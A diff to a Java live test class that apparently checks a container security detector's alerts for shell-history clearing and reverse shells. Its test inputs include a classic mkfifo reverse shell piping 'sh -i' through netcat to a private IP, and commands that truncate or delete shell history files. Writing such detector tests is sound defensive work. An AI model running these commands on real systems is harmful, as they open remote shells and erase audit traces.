@@ -132,6 +132,9 @@ class PersistenceAndEscapeGapsLiveTest {
         // Negatives: ash appends; bash (readline 7+) writes a new file and renames it over the history.
         exec("echo ls >> /root/.ash_history && echo id > /root/.bash_history-1.tmp"
                 + " && mv /root/.bash_history-1.tmp /root/.bash_history");
+        // Negative: the name outside a home directory (a removed container layer's copy, as an engine deletes it).
+        exec("mkdir -p /var/lib/x/diff/root && echo id > /var/lib/x/diff/root/.bash_history"
+                + " && rm /var/lib/x/diff/root/.bash_history");
         // Positives: truncated in place, removed, replaced by a symlink to /dev/null (ln -sf unlinks first).
         exec(": > /root/.ash_history");
         Alert trunc = await("Shell history cleared", inCtr("file=/root/.ash_history"));
@@ -150,6 +153,9 @@ class PersistenceAndEscapeGapsLiveTest {
     void mkfifoReverseShellWhoseNetcatIsTheShellsSibling() throws Exception {
         // Negative: the same pipeline around a script shell (sh -c), not an interactive one.
         exec("rm -f /tmp/g; mkfifo /tmp/g; cat /tmp/g | sh -c 'echo hi' 2>&1 | nc -w1 10.255.255.4 4444 > /tmp/g; true");
+        // Negative: an interactive shell and a connecting program started by one parent that is not a shell
+        // (find here; a container's init, supervisord, a shim alike): not linked.
+        exec("find / -maxdepth 0 -exec sh -i \\; -exec nc -w1 10.255.255.6 4444 \\; < /dev/null; true");
         // Positive: the classic mkfifo reverse shell; sh -i and nc are both children of sh -c (the
         // container's network is down: the connect fails at once, an attempt all the same).
         exec("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -w1 10.255.255.5 4444 > /tmp/f; true");
